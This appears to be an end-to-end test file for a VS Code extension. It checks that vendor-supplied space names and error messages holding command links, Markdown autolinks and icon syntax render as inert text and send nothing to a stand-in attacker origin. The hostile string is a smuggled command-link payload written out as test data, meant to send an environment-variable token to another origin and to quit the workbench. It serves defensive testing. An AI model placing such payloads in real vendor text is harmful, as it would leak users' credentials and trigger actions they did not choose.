// Vendor text never acts, in the real workbench with the packaged VSIX: spaces and errors whose text holds a
// command link (pointing an invented account at another origin with an environment variable as its token),
// a Markdown autolink to a command and icon syntax go through Test Connection, Open Space…, Find Space…,
// Add Space… and Refresh. The notification, quick pick, validation message and tree DOM must hold no link
// and no icon that came from that text, clicking the text runs nothing, and the other origin hears nothing.
import { after, before, describe, it } from 'node:test';
import * as assert from 'node:assert/strict';
import { accountEntry, alumioError, startSandbox, ALUMIO_SANDBOX, BLUEWORKS_SANDBOX, WORKBENCH_HOSTILE } from '../../out/sandbox/index.js';
import { eventually } from '../harness/wait.mjs';
import { useWorkbench } from '../harness/workbench.mjs';
/** @typedef {import('../harness/workbench.mjs').Session} Session */

const TOKEN_VARIABLE = 'SPACES_E2E_ALUMIO_TOKEN';
const SECRET_VARIABLE = 'SPACES_E2E_BLUEWORKS_SECRET';
/** What an invented account would send as its token: it must never leave the machine. */
const CANARY_VARIABLE = 'SPACES_E2E_CANARY';
const CANARY = 'canary-e2e-7f3a9c';

const NAMED = 'workbench-text';
const FAILING = 'workbench-error';

const alumioSpace = (name, status) => ({ object: { identifier: NAMED, name, status, purpose: 'prod' } });

describe('vendor text in the workbench never acts (packaged VSIX)', () => {
  /** Another origin: an invented account would send its token there. */
  let attacker;
  before(async () => {
    attacker = await startSandbox();
  });
  after(() => attacker?.close());

  const session = useWorkbench({
    codeServer(sandbox) {
      const invented = { account: accountEntry('alumio', attacker.url, 'evil', { label: 'Evil', spaces: ['x'], credentialsFromEnv: { token: CANARY_VARIABLE } }) };
      // Vendor text with a command link that would test the invented account against the attacker's origin.
      const hostile = `[Sign in again](command:spaces.testConnection?${encodeURIComponent(JSON.stringify(invented))} "Sign in") <command:workbench.action.quit> $(warning) Check your account`;
      // The vendor names a space and words its errors with that text, from the start.
      sandbox.addFault({ path: `/api/v1/spaces/${NAMED}`, kind: 'status', status: 200, body: alumioSpace(hostile, '$(error) [Failed](command:workbench.action.quit)') });
      sandbox.addFault({ path: `/api/v1/spaces/${FAILING}`, kind: 'status', status: 403, body: alumioError(403, hostile) });
      sandbox.addFault({ path: '/api/v1/spaces/new-space', kind: 'status', status: 403, body: alumioError(403, hostile) });
      const token = { credentialsFromEnv: { token: TOKEN_VARIABLE } };
      return {
        settings: {
          'spaces.accounts': [
            accountEntry('alumio', sandbox.url, 'named', { label: 'Named', spaces: [NAMED], ...token }),
            accountEntry('alumio', sandbox.url, 'failing', { label: 'Failing', spaces: [FAILING], ...token }),
            accountEntry('blueworks', sandbox.url, 'process', { label: 'Process', clientId: BLUEWORKS_SANDBOX.clientId, credentialsFromEnv: { clientSecret: SECRET_VARIABLE } }),
          ],
        },
        env: { [TOKEN_VARIABLE]: ALUMIO_SANDBOX.token, [SECRET_VARIABLE]: BLUEWORKS_SANDBOX.clientSecret, [CANARY_VARIABLE]: CANARY },
      };
    },
  });
  /** @type {Session['sandbox']} */ let sandbox;
  /** @type {Session['page']} */ let page;
  /** @type {Session['ui']} */ let ui;
  before(() => ({ sandbox, page, ui } = session));

  /** Links and icons inside `locator` (an element showing vendor text): there must be none. */
  async function actors(locator) {
    return locator.evaluateAll((elements) =>
      elements.flatMap((element) => [...element.querySelectorAll('a[href], [href], .monaco-link, .codicon')].map((e) => e.outerHTML.slice(0, 120))),
    );
  }

  /** The text as it reads (the zero-width spaces that keep it inert are invisible). */
  const visible = async (locator) => (await locator.innerText()).replaceAll('\u200B', '');

  /** Runs Test Connection on the account labelled `label` from the palette. */
  async function testConnection(label) {
    await ui.runCommand('Spaces: Test Connection');
    await ui.input().fill(label);
    await ui.option(new RegExp(`^${label}`)).first().click();
  }

  it('Test Connection: the name and the error text are text in the notification, and clicking them runs nothing', async () => {
    await testConnection('Named');
    const success = await ui.notification(/Connected: fetched the space/);
    // A user clicks the words that read like a link; had they been one, "Evil" would now be tested.
    await success.locator('.notification-list-item-message').getByText(/Sign in again/).click();
    assert.match(await visible(success), /\[Sign in again\]\(command:spaces\.testConnection\?/);
    assert.deepEqual(await actors(success.locator('.notification-list-item-message')), []);

    await testConnection('Failing');
    const failure = await ui.notification(/^Failing: The credentials were accepted but may not read this/);
    await failure.locator('.notification-list-item-message').getByText(/Sign in again/).click();
    assert.match(await visible(failure), /\[Sign in again\]\(command:spaces\.testConnection\?/);
    assert.deepEqual(await actors(failure.locator('.notification-list-item-message')), []);
    await ui.shot('security-notifications');
    await ui.clearNotifications();
  });

  it('Open Space…: rows named with the text show it as text, no icon', async () => {
    await ui.runCommand('Spaces: Open Space');
    await ui.step('Open Space');
    await ui.input().fill('Sign in again');
    const row = ui.quickInput().locator('.quick-input-list .monaco-list-row').filter({ hasText: 'Sign in again' }).first();
    await row.filter({ hasText: NAMED }).waitFor({ timeout: 20_000 });
    assert.match(await visible(row), /\$\(error\) \[Failed\]\(command:workbench\.action\.quit\)/);
    assert.deepEqual(await actors(row), []);
    await ui.shot('security-open-space');
    await page.keyboard.press('Escape');
    await ui.closed();
  });

  it('Find Space…: the typed text keeps only our own icon, and the results show the name as text', async () => {
    await ui.runCommand('Spaces: Find Space');
    await ui.step('Find Space');
    await ui.input().fill(WORKBENCH_HOSTILE);
    const search = ui.quickInput().locator('.quick-input-list .monaco-list-row').filter({ hasText: 'Find spaces named' }).first();
    await search.waitFor({ timeout: 20_000 });
    const icons = await search.locator('.codicon').evaluateAll((elements) => elements.map((e) => [...e.classList].find((c) => c.startsWith('codicon-'))));
    assert.deepEqual(icons, ['codicon-search'], 'the search row has our icon and no other');
    assert.match(await visible(search), /<command:workbench\.action\.quit> \$\(warning\) Check your account/);
    await search.click();
    await ui.step('Spaces found in Process');
    const found = ui.quickInput().locator('.quick-input-list .monaco-list-row').filter({ hasText: 'Sign in again' }).first();
    await found.waitFor({ timeout: 20_000 });
    assert.deepEqual(await actors(found), []);
    await ui.shot('security-find-space');
    await page.keyboard.press('Escape');
    await ui.closed();
  });

  it('Add Space…: a failure quoting the text is text in the validation message', async () => {
    await ui.runCommand('Spaces: Add Space');
    await ui.input().fill('Named');
    await ui.option(/^Named/).first().click();
    await ui.step(/^Add Space to "Named"/);
    await ui.input().fill('new-space');
    await ui.input().press('Enter');
    const message = ui.quickInput().locator('.quick-input-message').filter({ hasText: 'Sign in again' });
    await message.waitFor({ timeout: 20_000 });
    assert.deepEqual(await actors(message), []);
    await ui.shot('security-add-space');
    await page.keyboard.press('Escape');
    await ui.closed();
  });

  it('Refresh: the tree shows the name, the status and the error row as text', async () => {
    for (const label of ['Named', 'Failing']) await ui.expand(ui.accountRow(label));
    const mark = sandbox.received.length;
    await ui.refresh(ui.accountRow('Named'));
    await eventually(() => sandbox.received.slice(mark).filter((r) => r.url.endsWith(NAMED)), (requests) => requests.length > 0, 'the refresh to fetch the space');
    const named = page.getByRole('treeitem', { level: 2 }).filter({ hasText: 'Sign in again' });
    await named.locator('.label-description', { hasText: 'Failed' }).waitFor({ timeout: 20_000 });
    assert.deepEqual(await actors(named.locator('.monaco-icon-label-container')), []);

    const failing = page.getByRole('treeitem', { level: 2 }).filter({ hasText: FAILING });
    await ui.expand(failing);
    const error = page.getByRole('treeitem', { level: 3 }).filter({ hasText: /^forbidden: / });
    await error.waitFor({ timeout: 20_000 });
    assert.match(await error.innerText(), /Sign in again/);
    assert.deepEqual(await actors(error.locator('.monaco-icon-label-container')), []);
    await ui.shot('security-tree');
  });

  it('no request went to any other origin, and the environment variable was never sent', async () => {
    assert.deepEqual(attacker.received, []);
    assert.deepEqual(
      sandbox.received.filter((r) => JSON.stringify(r).includes(CANARY)),
      [],
    );
  });
});
